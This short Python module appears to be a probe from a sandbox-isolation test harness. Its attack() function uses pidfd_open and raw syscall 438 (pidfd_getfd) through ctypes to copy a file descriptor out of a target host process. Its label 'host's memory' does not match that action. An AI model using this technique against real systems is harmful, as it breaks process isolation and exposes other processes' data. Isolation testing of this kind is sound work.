"""Takes a descriptor out of the host."""

from __future__ import annotations

import ctypes
import os
from typing import Any

KIND = "host's memory"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    libc = ctypes.CDLL(None)
    pidfd = os.pidfd_open(t["pid"])
    return (os.readlink("/proc/self/ns/pid") == t["pid_namespace"]) and libc.syscall(438, pidfd, 1, 0) >= 0
